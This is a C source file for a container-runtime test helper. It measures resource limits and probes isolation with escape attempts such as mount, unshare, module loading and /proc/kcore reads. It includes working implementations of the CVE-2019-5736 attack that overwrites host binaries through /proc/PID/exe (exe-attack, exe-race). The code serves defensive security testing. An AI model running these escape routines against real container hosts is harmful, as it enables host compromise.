/* hull-test-helper: a static binary copied into test rootfs images and run inside
 * containers to report what the kernel shows there (docs/architecture.md, Tests).
 * Usage: hull-test-helper COMMAND [ARGS...]; prints results on stdout, exits 0 on success. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <stdint.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <dirent.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

static int usage(void) {
  fprintf(stderr, "hull-test-helper: unknown command\n");
  return 2;
}

/* fds: the open file descriptors of this process, one per line as "N -> target". */
static int cmd_fds(void) {
  for (int fd = 0; fd < 1024; fd++) {
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) continue;
    target[n] = 0;
    printf("%d -> %s\n", fd, target);
  }
  return 0;
}

/* "300M", "64k", "4096" -> bytes. */
static unsigned long long parse_bytes(const char* s) {
  char* end;
  unsigned long long v = strtoull(s, &end, 10);
  switch (*end) {
    case 'k': case 'K': return v << 10;
    case 'm': case 'M': return v << 20;
    case 'g': case 'G': return v << 30;
  }
  return v;
}

static long long now_ns(clockid_t clock) {
  struct timespec ts;
  clock_gettime(clock, &ts);
  return (long long)ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

/* Unbuffered, so a process the kernel kills has already said how far it got. */
static void say(const char* fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char* fmt, ...) {
  char buf[256];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof buf, fmt, ap);
  va_end(ap);
  if (n > 0) (void)!write(1, buf, (size_t)n < sizeof buf ? (size_t)n : sizeof buf - 1);
}

/* memhog SIZE [hold]: allocates SIZE and touches every page (so it is really charged),
 * reporting each 16 MiB; "memhog done" when all of it fits; with "hold", keeps it until killed. */
static int cmd_memhog(int argc, char** argv) {
  if (argc < 3) return usage();
  unsigned long long total = parse_bytes(argv[2]), chunk = 1 << 20, got = 0;
  long page = sysconf(_SC_PAGESIZE);
  while (got < total) {
    char* p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      say("memhog mmap failed at %llu MiB: %s\n", got >> 20, strerror(errno));
      return 1;
    }
    for (unsigned long long off = 0; off < chunk; off += (unsigned long long)page) p[off] = 1;
    got += chunk;
    if ((got >> 20) % 16 == 0) say("memhog %llu MiB\n", got >> 20);
  }
  say("memhog done %llu MiB\n", got >> 20);
  if (argc > 3 && !strcmp(argv[3], "hold"))
    for (;;) pause();
  return 0;
}

/* cpuburn SECONDS: spins for SECONDS of wall time (0: forever) and reports the CPU time it
 * got: "cpu_ms=N wall_ms=M". */
static int cmd_cpuburn(int argc, char** argv) {
  double secs = argc > 2 ? atof(argv[2]) : 0;
  long long start = now_ns(CLOCK_MONOTONIC), cpu0 = now_ns(CLOCK_PROCESS_CPUTIME_ID);
  volatile unsigned long long x = 0;
  for (;;) {
    for (int i = 0; i < 100000; i++) x += (unsigned long long)i;
    long long wall = now_ns(CLOCK_MONOTONIC) - start;
    if (secs > 0 && wall >= (long long)(secs * 1e9)) {
      say("cpu_ms=%lld wall_ms=%lld\n", (now_ns(CLOCK_PROCESS_CPUTIME_ID) - cpu0) / 1000000, wall / 1000000);
      (void)x; /* the volatile sum is the work; clang counts it as set but unused */
      return 0;
    }
  }
}

/* forkloop MAX: forks children that sleep until killed, until fork fails or MAX are
 * running: "forked N error=<strerror>" (or "error=none"). */
static int cmd_forkloop(int argc, char** argv) {
  int max = argc > 2 ? atoi(argv[2]) : 100000, n = 0;
  const char* err = "none";
  pid_t* kids = calloc((size_t)max + 1, sizeof *kids);
  if (!kids) return 1;
  for (; n < max; n++) {
    pid_t p = fork();
    if (p < 0) {
      err = strerror(errno);
      break;
    }
    if (p == 0) {
      for (;;) pause();
    }
    kids[n] = p;
  }
  say("forked %d error=%s\n", n, err);
  /* One by one: the process group is the caller's (a foreground run shares it). */
  for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
  while (wait(NULL) > 0) {
  }
  return 0;
}

/* odirect DEVICE BYTES: reads BYTES from DEVICE with O_DIRECT (no page cache, so every byte
 * goes through the block layer and its throttling): "bytes=N ms=M". */
static int cmd_odirect(int argc, char** argv) {
  if (argc < 4) return usage();
  unsigned long long want = parse_bytes(argv[3]), got = 0;
  size_t block = 64 << 10;
  int fd = open(argv[2], O_RDONLY | O_DIRECT);
  if (fd < 0) {
    say("odirect open %s: %s\n", argv[2], strerror(errno));
    return 1;
  }
  void* buf;
  if (posix_memalign(&buf, 4096, block)) return 1;
  long long start = now_ns(CLOCK_MONOTONIC);
  while (got < want) {
    ssize_t n = pread(fd, buf, block, (off_t)got);
    if (n <= 0) {
      say("odirect read at %llu: %s\n", got, n < 0 ? strerror(errno) : "end of device");
      return 1;
    }
    got += (unsigned long long)n;
  }
  say("bytes=%llu ms=%lld\n", got, (now_ns(CLOCK_MONOTONIC) - start) / 1000000);
  return 0;
}

/* ---- security probes (tests/integration/test_escape.py, test_cve.py, test_security.py) ---- */

/* The errno as its name ("EPERM"), or "ok" for success: what the escape tests assert on. */
static const char* outcome(long rc, int err) {
  if (rc >= 0) return "ok";
  static char buf[32];
  const char* name = strerrorname_np(err);
  snprintf(buf, sizeof buf, "%s", name ? name : "E?");
  return buf;
}

/* One escape attempt by name; prints "NAME: ok" when the kernel let it through. */
static void try_one(const char* name) {
  long rc = -1;
  errno = 0;
  if (!strcmp(name, "mount")) {
    rc = mount("none", "/mnt", "tmpfs", 0, NULL);
  } else if (!strcmp(name, "umount")) {
    rc = umount2("/dev/shm", MNT_DETACH);
  } else if (!strcmp(name, "pivot_root")) {
    rc = chdir("/") < 0 ? -1 : syscall(SYS_pivot_root, ".", ".");
  } else if (!strcmp(name, "unshare-user")) {
    rc = unshare(CLONE_NEWUSER);
  } else if (!strcmp(name, "unshare-mount")) {
    rc = unshare(CLONE_NEWNS);
  } else if (!strcmp(name, "kexec_load")) {
    rc = syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL);
  } else if (!strcmp(name, "init_module")) {
    static const char junk[64] = "\177ELF";
    rc = syscall(SYS_init_module, junk, sizeof junk, "");
  } else if (!strcmp(name, "keyctl")) {
    rc = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "escape");
  } else if (!strcmp(name, "sethostname")) {
    rc = sethostname("escaped", 7);
  } else if (!strcmp(name, "mknod-block")) {
    /* /dev/shm: writable in every default config, unlike a read-only root. */
    rc = mknod("/dev/shm/escape-blk", S_IFBLK | 0600, makedev(8, 0));
    if (rc == 0) unlink("/dev/shm/escape-blk");
  } else if (!strcmp(name, "proc-sys-write")) {
    int fd = open("/proc/sys/kernel/domainname", O_WRONLY);
    rc = fd < 0 ? -1 : write(fd, "escaped", 7);
    if (fd >= 0) close(fd);
  } else if (!strcmp(name, "kcore-read")) {
    /* Masked with /dev/null it reads as empty: only bytes of kernel memory count as "ok". */
    char buf[64];
    int fd = open("/proc/kcore", O_RDONLY);
    rc = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (rc == 0) {
      rc = -1;
      errno = ENODATA;
    }
    if (fd >= 0) close(fd);
  } else {
    fprintf(stderr, "try: unknown attempt %s\n", name);
    exit(2);
  }
  printf("%s: %s\n", name, outcome(rc, errno));
}

static int cmd_try(int argc, char** argv) {
  for (int i = 2; i < argc; i++) try_one(argv[i]);
  return 0;
}

/* ptrace PID: PTRACE_SEIZE of a process, then let go. */
static int cmd_ptrace(const char* pid) {
  long rc = ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL);
  int err = errno;
  if (rc == 0) ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
  printf("ptrace %s: %s\n", pid, outcome(rc, err));
  return 0;
}

/* pids: every process this /proc shows, one per line. */
static int cmd_pids(void) {
  DIR* d = opendir("/proc");
  if (!d) return 1;
  for (struct dirent* e; (e = readdir(d));)
    if (e->d_name[0] >= '0' && e->d_name[0] <= '9') printf("%s\n", e->d_name);
  closedir(d);
  return 0;
}

static int cmd_ids(void) {
  printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
  return 0;
}

/* open MODE PATH...: MODE r, w, rw or path; prints "PATH: ok" or the errno name. */
static int cmd_open(int argc, char** argv) {
  if (argc < 4) return 2;
  int flags = !strcmp(argv[2], "w") ? O_WRONLY : !strcmp(argv[2], "rw") ? O_RDWR
            : !strcmp(argv[2], "path") ? O_PATH : O_RDONLY;
  for (int i = 3; i < argc; i++) {
    int fd = open(argv[i], flags | O_CLOEXEC | O_NONBLOCK);
    printf("%s: %s\n", argv[i], outcome(fd, errno));
    if (fd >= 0) close(fd);
  }
  return 0;
}

/* syscall NR: the raw syscall with zero arguments; prints its errno name. */
static int cmd_syscall(const char* nr) {
  long rc = syscall(atol(nr), 0L, 0L, 0L, 0L, 0L, 0L);
  printf("syscall %s: %s\n", nr, outcome(rc, errno));
  return 0;
}

/* exe-attack FILE SECONDS: CVE-2019-5736 as an attacker inside a container does it. Waits
 * (up to 60 s) for FILE to name a pid, keeps trying to open /proc/PID/exe (O_PATH, as the
 * exploit does: writing is refused while the binary runs), then keeps trying to reopen what it
 * got for writing and to write it, until SECONDS pass from the pid. Creates FILE.tried after
 * its first try, for the test to know it is under way. Prints "refused: ERRNO xN" for the
 * failed opens, "opened: DEV:INO TARGET" for what it got, and "write: ok" if it wrote. */
static int cmd_exe_attack(const char* file, const char* seconds) {
  time_t end = time(NULL) + 60;
  int pid = 0;
  while (!pid && time(NULL) < end) {
    FILE* f = fopen(file, "r");
    if (f) {
      if (fscanf(f, "%d", &pid) != 1) pid = 0;
      fclose(f);
    }
    if (!pid) usleep(10000);
  }
  if (!pid) {
    printf("no target\n");
    return 1;
  }
  end = time(NULL) + atoi(seconds);
  char path[64], tried[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  snprintf(tried, sizeof tried, "%s.tried", file);
  int fd = -1, err = 0, refused = 0;
  while (fd < 0 && time(NULL) < end) {
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
      err = errno;
      refused++;
    }
    if (refused + (fd >= 0) == 1) close(open(tried, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
    if (fd < 0) usleep(5000);
  }
  if (refused) printf("refused: %s x%d\n", outcome(-1, err), refused);
  if (fd < 0) return 0;
  struct stat st;
  char self[64], target[4096] = "";
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(self, target, sizeof target - 1);
  if (n > 0) target[n] = 0;
  fstat(fd, &st);
  printf("opened: %u:%lu %s\n", (unsigned)st.st_dev, (unsigned long)st.st_ino, target);
  long rc = -1;
  while (rc < 0 && time(NULL) < end) {
    int w = open(self, O_WRONLY | O_CLOEXEC);
    rc = w < 0 ? -1 : write(w, "#!/bin/sh\necho hacked\n", 22);
    err = errno;
    if (w >= 0) close(w);
    if (rc < 0) usleep(5000);
  }
  printf("write: %s\n", outcome(rc, err));
  return 0;
}

/* pause: a pod sandbox's init, as Kubernetes' pause image: sleeps until SIGTERM or SIGINT
 * (exit 0) and reaps the children a shared PID namespace hands it. */
static void on_term(int sig) {
  (void)sig;
  _exit(0);
}
static void on_child(int sig) {
  (void)sig;
  while (waitpid(-1, NULL, WNOHANG) > 0) {
  }
}
static _Noreturn void cmd_pause(void) {
  struct sigaction term = {.sa_handler = on_term};
  struct sigaction child = {.sa_handler = on_child, .sa_flags = SA_NOCLDSTOP | SA_RESTART};
  sigaction(SIGTERM, &term, NULL);
  sigaction(SIGINT, &term, NULL);
  sigaction(SIGCHLD, &child, NULL);
  for (;;) pause();
}

/* exe-race SECONDS [STOP [READY]]: CVE-2019-5736 by an attacker with CAP_SYS_PTRACE, who is
 * not stopped by non-dumpable processes. Until SECONDS pass, keeps scanning /proc and opening
 * /proc/PID/exe (O_PATH) of every other process, keeping an fd per distinct file that is not
 * the container's own (a path that resolves to the same file in here); and keeps reopening
 * each through /proc/self/fd/N for writing and writing it: refused (ETXTBSY) while a process
 * runs that binary, accepted once none does if the file is writable. Stops early once STOP
 * exists. Creates READY, if given, after its first scan of /proc. Prints "opened: DEV:INO
 * TARGET" per file, then "write DEV:INO: ok|ERRNO" (the last outcome). */
#define RACE_MAX 32
static int cmd_exe_race(const char* seconds, const char* stop, const char* ready) {
  struct timespec now, end;
  clock_gettime(CLOCK_MONOTONIC, &end);
  end.tv_sec += atoi(seconds);
  int fds[RACE_MAX], done[RACE_MAX], errs[RACE_MAX], n = 0;
  struct stat sts[RACE_MAX];
  char targets[RACE_MAX][256];
  pid_t self = getpid();
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec > end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec >= end.tv_nsec)) break;
    /* One more round of writes after the stop file appears: the caller's hull calls are over. */
    int last = stop && access(stop, F_OK) == 0;
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d)) && n < RACE_MAX) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st, here;
      int known = fstat(fd, &st) < 0;
      for (int i = 0; i < n && !known; i++)
        known = sts[i].st_dev == st.st_dev && sts[i].st_ino == st.st_ino;
      char self_fd[64], target[256] = "";
      snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
      ssize_t len = readlink(self_fd, target, sizeof target - 1);
      if (len > 0) target[len] = 0;
      /* The container's own programs: attacking them proves nothing. */
      if (!known && stat(target, &here) == 0 && here.st_dev == st.st_dev &&
          here.st_ino == st.st_ino)
        known = 1;
      if (known) {
        close(fd);
        continue;
      }
      fds[n] = fd;
      sts[n] = st;
      done[n] = 0;
      errs[n] = 0;
      snprintf(targets[n], sizeof targets[n], "%s", target);
      n++;
    }
    if (d) closedir(d);
    if (ready) {
      close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
      ready = NULL;
    }
    for (int i = 0; i < n; i++) {
      if (done[i]) continue;
      char self_fd[64];
      snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fds[i]);
      int w = open(self_fd, O_WRONLY | O_CLOEXEC);
      long rc = w < 0 ? -1 : write(w, "#!/bin/sh\necho hacked\n", 22);
      errs[i] = errno;
      if (w >= 0) close(w);
      if (rc >= 0) done[i] = 1;
    }
    if (last) break;
  }
  for (int i = 0; i < n; i++)
    printf("opened: %u:%lu %s\n", (unsigned)sts[i].st_dev, (unsigned long)sts[i].st_ino,
           targets[i]);
  for (int i = 0; i < n; i++)
    printf("write %u:%lu: %s\n", (unsigned)sts[i].st_dev, (unsigned long)sts[i].st_ino,
           done[i] ? "ok" : outcome(-1, errs[i]));
  printf("done\n");
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  if (!strcmp(argv[1], "pause")) cmd_pause();
  const char* cmd = argv[1];
  if (!strcmp(cmd, "fds")) return cmd_fds();
  if (!strcmp(cmd, "try")) return cmd_try(argc, argv);
  if (!strcmp(cmd, "ptrace") && argc > 2) return cmd_ptrace(argv[2]);
  if (!strcmp(cmd, "pids")) return cmd_pids();
  if (!strcmp(cmd, "ids")) return cmd_ids();
  if (!strcmp(cmd, "open")) return cmd_open(argc, argv);
  if (!strcmp(cmd, "syscall") && argc > 2) return cmd_syscall(argv[2]);
  if (!strcmp(cmd, "exe-race") && argc > 2)
    return cmd_exe_race(argv[2], argc > 3 ? argv[3] : NULL, argc > 4 ? argv[4] : NULL);
  if (!strcmp(cmd, "exe-attack") && argc > 3) return cmd_exe_attack(argv[2], argv[3]);
  if (!strcmp(cmd, "memhog")) return cmd_memhog(argc, argv);
  if (!strcmp(cmd, "cpuburn")) return cmd_cpuburn(argc, argv);
  if (!strcmp(cmd, "forkloop")) return cmd_forkloop(argc, argv);
  if (!strcmp(cmd, "odirect")) return cmd_odirect(argc, argv);
  if (!strcmp(cmd, "exit")) return argc > 2 ? atoi(argv[2]) : 0;
  if (!strcmp(cmd, "segv")) {
    /* A fault is delivered by force, even to PID 1 of a namespace. */
    volatile int* p = (volatile int*)(uintptr_t)argc - argc;
    return *p;
  }
  return usage();
}
